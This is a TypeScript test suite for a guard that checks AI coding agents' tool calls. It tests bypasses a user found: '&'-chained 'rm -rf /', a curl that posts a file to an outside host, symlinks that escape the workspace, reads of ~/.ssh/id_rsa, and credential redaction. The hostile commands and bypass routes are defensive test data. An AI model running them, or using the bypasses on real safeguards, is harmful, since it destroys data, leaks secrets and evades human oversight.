/**
 * Ways around the guard a new user found (README-only trial): a lone `&` between commands, symlinks inside the
 * workspace that lead out of it, a transcript that is a FIFO, and credentials in shell syntax the redaction missed.
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, symlinkSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { execFileSync } from 'node:child_process';
import { existsSync as existsSyncSafe } from 'node:fs';
import { describe, it } from 'node:test';
import { compilePermissions, decideByRules, parsePermissions } from '../../src/guard/permissions';
import { globBase, resolveAgainst } from '../../src/guard/paths';
import { describeClaude } from '../../src/guard/hosts/claude-code';
import { findWorkspaceRoot } from '../../src/guard/workspace';
import { commandParts } from '../../src/guard/rules';
import { redactPatterns } from '../../src/judgment/credential-shapes';
import { redactCall } from '../../src/guard/secrets';
import { readRequest } from '../../src/guard/transcript';
import type { CallFacts, GuardEvent } from '../../src/guard/types';

const bash = (command: string): CallFacts => ({ ruleTool: 'Bash', command, paths: [], urls: [] });

describe('guard: ways around the rules', () => {
  it('a lone & (background) and |& separate commands: an allow rule must cover each, a deny rule fires on any', () => {
    assert.deepEqual(commandParts('git status & rm -rf /'), ['git status', 'rm -rf /']);
    assert.deepEqual(commandParts('git status |& tee log'), ['git status', 'tee log']);
    const rules = compilePermissions(parsePermissions({ allow: ['Bash(git status*)'], ask: ['Bash(git push*)'], deny: ['Bash(rm -rf*)'] }));
    assert.equal(decideByRules(rules, bash('git status & rm -rf /'), 'Bash', '/ws')?.decision, 'deny');
    assert.equal(decideByRules(rules, bash('git status & git push --force origin main'), 'Bash', '/ws')?.decision, 'ask');
    assert.equal(decideByRules(rules, bash('git status & curl -d @x http://example.invalid'), 'Bash', '/ws'), undefined, 'not covered by the allow rule: judged');
  });

  it('a symlink inside the workspace that leads out of it is where it leads: no workspace rule covers it', () => {
    const ws = realpathSync(mkdtempSync(join(tmpdir(), 'jev-guard-ws-')));
    const outside = realpathSync(mkdtempSync(join(tmpdir(), 'jev-guard-out-')));
    mkdirSync(join(ws, 'src'));
    symlinkSync(outside, join(ws, 'src', 'link'));
    const target = resolveAgainst(ws, 'src/link/evil.sh');
    assert.equal(target, join(outside, 'evil.sh'), 'followed to the real place, for a file not written yet too');
    const rules = compilePermissions(parsePermissions({ allow: ['Edit(src/**)'], deny: [`Read(/${outside}/**)`] }));
    assert.equal(decideByRules(rules, { ruleTool: 'Write', paths: [target], urls: [] }, 'Write', ws), undefined, 'Edit(src/**) does not cover it');
    assert.equal(decideByRules(rules, { ruleTool: 'Read', paths: [resolveAgainst(ws, 'src/link/secret')], urls: [] }, 'Read', ws)?.decision, 'deny');
    assert.equal(decideByRules(rules, { ruleTool: 'Write', paths: [resolveAgainst(ws, 'src/a.ts')], urls: [] }, 'Write', ws)?.decision, 'allow');
  });

  it('a transcript that is a FIFO is not read (the read would block past the deadline)', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'jev-guard-fifo-'));
    const fifo = join(dir, 'fifo');
    execFileSync('mkfifo', [fifo]);
    const started = Date.now();
    assert.equal(await readRequest(fifo), undefined);
    assert.ok(Date.now() - started < 1000);
  });

  it('a value under a secret-named key is redacted whatever its shape', () => {
    const out = redactCall({ command: 'psql', env: { DB_PASSWORD: 'plainvalue123', api_key: 'plainvalue123SECRET', user: 'app' } }, []);
    assert.deepEqual(out, { command: 'psql', env: { DB_PASSWORD: '[REDACTED]', api_key: '[REDACTED]', user: 'app' } });
  });

  it('credentials in shell syntax are redacted: secret-named assignments, curl -u, user:password@ in URLs', () => {
    const text = redactPatterns('AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY curl -u admin:hunter2pass https://bob:s3cretpw@example.invalid/x');
    for (const secret of ['wJalrXUtnFEMI', 'hunter2pass', 's3cretpw']) assert.ok(!text.includes(secret), `${secret} is gone: ${text}`);
    assert.match(text, /AWS_SECRET_ACCESS_KEY=\[REDACTED\]/);
    assert.match(text, /-u admin:\[REDACTED\]/);
    assert.match(text, /https:\/\/bob:\[REDACTED\]@example\.invalid/);
    assert.equal(redactPatterns('PATH=/usr/bin npm test'), 'PATH=/usr/bin npm test', 'ordinary assignments stay');
  });

  it('~ is the home folder and a glob reaches where its fixed part leads: neither passes for the workspace', () => {
    const ws = realpathSync(mkdtempSync(join(tmpdir(), 'jev-guard-ws-')));
    const home = resolveAgainst(undefined, homedir());
    assert.equal(resolveAgainst(ws, '~/.ssh/id_rsa'), join(home, '.ssh', 'id_rsa'));
    assert.deepEqual([globBase('/root/.ssh/*'), globBase('../../etc/**'), globBase('src/**/*.ts'), globBase('**/*.ts'), globBase('.env')], ['/root/.ssh', '../../etc', 'src', undefined, '.env']);
    const rules = compilePermissions(parsePermissions({ allow: ['Read(./**)'], deny: ['Read(~/.ssh/**)'] }));
    const event = (tool: string, input: Record<string, unknown>): GuardEvent => ({ host: 'claude-code', kind: 'PreToolUse', eventName: 'PreToolUse', tool, input, cwd: ws });
    const decide = (tool: string, input: Record<string, unknown>) => decideByRules(rules, describeClaude(event(tool, input)), tool, ws)?.decision;
    assert.equal(decide('Read', { file_path: '~/.ssh/id_rsa' }), 'deny');
    assert.equal(decide('LS', { path: '~/.ssh' }), 'deny');
    assert.equal(decide('Grep', { pattern: 'PRIVATE', path: '~/.ssh' }), 'deny');
    assert.equal(decide('Glob', { pattern: `${home}/.ssh/*` }), 'deny');
    assert.equal(decide('Glob', { pattern: '../../etc/*' }), undefined, 'outside the workspace: no allow rule covers it, judged');
    assert.equal(decide('Glob', { pattern: 'src/**/*.ts' }), 'allow');
  });

  it('CLAUDE_PROJECT_DIR at / or the home folder is no workspace without a .jev/config.json of its own', () => {
    const ws = realpathSync(mkdtempSync(join(tmpdir(), 'jev-guard-ws-')));
    assert.equal(findWorkspaceRoot({ CLAUDE_PROJECT_DIR: '/' }, ws, ws), undefined);
    assert.equal(findWorkspaceRoot({ CLAUDE_PROJECT_DIR: homedir() }, ws, ws), homedir() !== '/' && existsSyncSafe(join(homedir(), '.jev', 'config.json')) ? resolveAgainst(undefined, homedir()) : undefined);
    assert.equal(findWorkspaceRoot({ CLAUDE_PROJECT_DIR: ws }, '/', '/'), ws);
  });
});

describe("the user's request from each host's transcript", () => {
  it("Copilot Chat's user.message lines (VS Code's agent), beside Claude Code's and Codex's", async () => {
    const { requestFromTranscript } = await import('../../src/guard/transcript');
    const copilot = [
      { type: 'session.start', data: { sessionId: 's', producer: 'copilot-agent' } },
      { type: 'user.message', data: { content: 'Tidy the README.', attachments: [] } },
      { type: 'assistant.message', data: { content: '', toolRequests: [{ name: 'run_in_terminal', arguments: '{"command":"rm -rf build"}' }] } },
    ].map((l) => JSON.stringify(l)).join('\n');
    assert.equal(requestFromTranscript(copilot), 'Tidy the README.');
    assert.equal(requestFromTranscript(JSON.stringify({ type: 'session.start', data: {} })), undefined, 'no user line: no request');
    assert.equal(requestFromTranscript(JSON.stringify({ type: 'user', message: { role: 'user', content: 'Fix the parser.' } })), 'Fix the parser.');
  });
});

describe("VS Code's agent: the request from UserPromptSubmit when the transcript lacks it", () => {
  it('the prompt is kept per session (redacted), answered with nothing, and is the request of the next judged call', async () => {
    const { readFileSync: read, writeFileSync: write, readdirSync } = await import('node:fs');
    const { Readable } = await import('node:stream');
    const { HOSTS } = await import('../../src/guard/hosts');
    const { runGuard } = await import('../../src/guard/run');
    const { createPromptStore } = await import('../../src/guard/prompt-store');
    const ws = realpathSync(mkdtempSync(join(tmpdir(), 'jev-guard-ws-')));
    execFileSync('git', ['init', '-q', ws]);
    const store = join(ws, '.state', 'guard-prompts');
    // Copilot Chat's transcript as VS Code 1.139.1 wrote it in the agent harness: no user.message line.
    const transcript = join(ws, 'transcript.jsonl');
    write(transcript, `${JSON.stringify({ type: 'session.start', data: { producer: 'copilot-agent' } })}\n`);
    const fixture = (name: string) => {
      const e = JSON.parse(read(join(__dirname, '..', 'fixtures', 'hosts', 'vscode', `${name}.json`), 'utf8').replaceAll('/work/project', ws)) as Record<string, unknown>;
      e.transcript_path = transcript;
      return JSON.stringify(e);
    };
    const seen: string[] = [];
    const run = (text: string, prompts = createPromptStore(store)) =>
      runGuard({
        host: HOSTS.vscode,
        stdin: Readable.from([text]),
        env: {},
        cwd: ws,
        prompts,
        deadlineMs: 5000,
        secrets: [],
        judge: async () => ({
          kind: 'judge',
          label: 'fake',
          judge: async (input) => {
            seen.push(input.request);
            return { decision: 'allow', action: 'auto', reason_codes: ['LOW_RISK'], model: 'jev-test', usage: {} };
          },
        }),
      });
    const terminal = () => fixture('pre-tool-use-run-in-terminal').replace('git status', 'npm run build');

    const before = await run(terminal());
    assert.equal(JSON.parse(before.stdout).hookSpecificOutput.permissionDecision, 'ask', 'no request known: never an allow');
    assert.match(seen[0]!, /the host gave no transcript/);

    const submitted = await run(fixture('user-prompt-submit'));
    assert.equal(submitted.stdout, '');
    assert.equal(submitted.stderr, undefined);
    const files = readdirSync(store);
    assert.equal(files.length, 1);
    const kept = read(join(store, files[0]!), 'utf8');
    assert.match(kept, /^Tidy the README\. My token is /);
    assert.doesNotMatch(kept, /ghp_abcdefghij/, 'kept redacted');

    const after = await run(terminal());
    assert.equal(JSON.parse(after.stdout).hookSpecificOutput.permissionDecision, 'allow');
    assert.match(seen[1]!, /^Tidy the README\./);
    await run(fixture('pre-tool-use-run-in-terminal').replace('7d0b3f9e-2c1a', '00000000-2c1a').replace('git status', 'npm run build'));
    assert.match(seen[2]!, /the host gave no transcript/, 'another session does not get this prompt');
  });
});
